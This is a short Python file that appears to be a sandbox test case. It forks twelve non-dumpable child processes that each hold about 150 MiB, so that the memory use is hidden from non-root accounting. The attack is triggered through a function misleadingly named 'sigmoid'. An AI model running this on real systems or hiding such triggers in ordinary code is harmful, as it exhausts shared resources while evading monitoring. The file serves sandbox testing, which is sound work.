"""Goal: fill memory with processes whose /proc entries are closed to everybody but root.

Without a sandbox: unsafe
"""

import ctypes
import os
import time

CHILDREN, MIB, PR_SET_DUMPABLE = 12, 150, 4


def attack():
    # Whoever asks how much memory they have, and takes a refusal for zero, counts nothing.
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
    for _ in range(CHILDREN):
        if os.fork() == 0:
            kept = os.urandom(1 << 20) * MIB
            time.sleep(60)
            os._exit(len(kept) and 0)
    time.sleep(2)
    if os.waitpid(-1, os.WNOHANG) == (0, 0):
        raise RuntimeError(f"ATTACK SUCCEEDED: {CHILDREN * MIB} MiB in use")


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
